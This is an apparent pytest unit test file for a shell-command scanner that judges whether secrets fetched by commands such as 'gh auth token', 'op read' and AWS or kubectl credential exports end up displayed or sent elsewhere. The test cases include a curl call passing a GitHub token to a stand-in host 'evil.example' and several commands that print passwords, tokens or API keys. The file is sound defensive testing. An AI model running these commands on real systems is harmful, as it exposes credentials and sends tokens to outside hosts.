"""Claims about what a program prints: shown to somebody, or kept."""

from __future__ import annotations

import pytest

from chrono.scan.command import Command, Redirect
from chrono.scan.rule import Ruleset
from chrono.scan.showing import kept
from tests.unit.scan.conftest import ruleset as ruleset
from tests.unit.scan.conftest import verdict

GH = ("gh", "auth", "token")
TAKEN = Command(GH, seen=False)


def test_output_that_a_substitution_takes_is_kept() -> None:
    assert kept([TAKEN, Command(("npm", "ci"))]) == {GH}
    assert kept([Command(GH)]) == frozenset()


def test_a_client_of_the_issuer_keeps_it_and_another_host_does_not() -> None:
    home = Command(("curl", "https://api.github.com/user"), upstream=(GH,))
    abroad = Command(("curl", "https://evil.example/"), upstream=(GH,))
    assert kept([TAKEN, home]) == {GH}
    assert kept([TAKEN, home, abroad]) == frozenset()


def test_what_is_also_shown_is_not_kept() -> None:
    assert kept([TAKEN, Command(GH)]) == frozenset()
    assert kept([TAKEN, Command(("cat",), upstream=(GH,))]) == frozenset()
    assert kept([TAKEN, Command(("env",))]) == frozenset()


def test_a_file_shows_it_later_and_nowhere_does_not() -> None:
    assert kept([Command(GH, redirects=(Redirect(">", None, "t.txt"),), seen=False)]) == frozenset()
    assert kept([Command(GH, redirects=(Redirect(">", None, "/dev/null"),))]) == {GH}
    assert kept([Command(GH, redirects=(Redirect(">", 2, "err.txt"),), seen=False)]) == {GH}


@pytest.mark.parametrize(
    ("text", "stopped"),
    [
        ("GH_TOKEN=$(gh auth token) npm view left-pad", False),
        ("GH_TOKEN=$(gh auth token) sh -c 'echo $GH_TOKEN'", True),
        ("x=`op read op://dev/db/password`; echo $x", True),
        ('eval "$(aws configure export-credentials --format env)" && aws s3 ls', False),
        ('eval "$(aws configure export-credentials --format env)"; env', True),
        ('curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user | jq .login', False),
        ("{ gh auth token; gh api user; } | cat", True),
        ("kubectl get secret a -o yaml | sed s/a/b/ | kubectl apply -f -", False),
        ("kubectl get secret a -o yaml | grep pass", True),
        ('echo "${OPENAI_API_KEY:0:4}"', False),
        ('echo "${OPENAI_API_KEY:0:40}"', True),
    ],
)
def test_a_secret_is_stopped_only_where_it_is_shown(text: str, stopped: bool, ruleset: Ruleset) -> None:
    assert (verdict(text, ruleset, covered=False) != "allow") == stopped
